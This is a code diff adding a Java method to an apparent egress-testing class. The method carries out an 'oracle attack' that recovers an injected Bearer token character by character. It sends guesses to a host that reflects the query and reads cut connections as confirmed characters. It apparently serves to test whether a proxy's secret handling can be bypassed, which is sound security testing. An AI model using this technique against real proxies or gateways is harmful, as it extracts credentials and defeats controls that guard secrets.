@@ -81,6 +81,40 @@ final class EgressTools {
     }
   }
 
+  /**
+   * The oracle attack: extends {@code "Bearer " + format} one character at a time, sending the last 11 characters and a guess to
+   * a host that quotes the query back; a guess whose answer was cut is taken as the next character of the injected
+   * secret. Returns what it learned (stops at the first character it cannot learn, or after {@code more}).
+   */
+  static String guessThroughReflection(String url, String format, int more) {
+    HttpClient client = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();
+    String recovered = "Bearer " + format;
+    guessing:
+    for (int i = 0; i < more; i++) {
+      for (char c : "0123456789abcdef".toCharArray()) {
+        String guess = recovered.substring(recovered.length() - 11) + c;
+        try {
+          URI uri = URI.create(url + "?q=" + guess.replace(" ", "%20"));
+          HttpResponse<String> answer = client.send(HttpRequest.newBuilder(uri).timeout(Duration.ofSeconds(10))
+              .build(), HttpResponse.BodyHandlers.ofString());
+          if (answer.statusCode() != 200) {
+            break guessing;
+          }
+        } catch (IOException e) {
+          if (String.valueOf(e.getMessage()).contains("403")) {
+            break guessing; // the proxy refused the tunnel
+          }
+          recovered += c; // cut
+          continue guessing;
+        } catch (InterruptedException e) {
+          break guessing;
+        }
+      }
+      break;
+    }
+    return recovered;
+  }
+
   /** An HTTPS GET with {@code HttpURLConnection} (a CONNECT through the proxy): the failure text, or the status. */
   static String https(String url) {
     try {
